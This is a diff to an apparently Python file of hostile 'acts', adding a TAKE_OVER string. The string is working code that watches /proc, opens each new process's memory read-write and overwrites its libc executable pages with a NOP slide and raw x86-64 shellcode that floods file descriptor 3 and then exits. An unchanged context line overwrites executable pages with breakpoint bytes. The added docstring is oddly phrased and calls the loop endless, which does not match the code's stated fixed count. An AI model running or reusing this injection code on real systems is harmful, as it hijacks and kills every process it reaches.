@@ -84,3 +84,29 @@ ACTS = {
         " [os.pwrite(memory, b'\\xcc' * 4096, int(line.split('-')[0], 16)) for line in open(f'/proc/{name}/maps') if ' r-xp ' in line]"
     ),
 }
+
+TAKE_OVER = r"""
+import struct
+def flood(address):
+    # 6400 times write(3, address, 65536), then exit
+    loop = bytes.fromhex("bf03000000 48be") + struct.pack("<Q", address) + bytes.fromhex("ba00000100 b801000000 0f05 ffcb 75e1")
+    return bytes.fromhex("bb00190000") + loop + bytes.fromhex("31ff b8e7000000 0f05")
+known = {1, os.getpid()}
+print("ready", flush=True)
+while True:
+    for name in os.listdir("/proc"):
+        if name.isdigit() and int(name) not in known:
+            try:
+                maps = [line.split() for line in open(f"/proc/{name}/maps")]
+                memory = os.open(f"/proc/{name}/mem", os.O_RDWR)
+                known.add(int(name))
+                for fields in maps:
+                    if fields[1] == "r-xp" and "libc" in fields[-1]:
+                        start, end = (int(part, 16) for part in fields[0].split("-"))
+                        code = flood(start)
+                        os.pwrite(memory, code, end - len(code))
+                        os.pwrite(memory, b"\x90" * (end - start - len(code)), start)
+            except OSError:
+                pass
+"""
+"""rewrites the C library of every process that it sees: slides of nothing that end in an endless answer (x86-64)"""
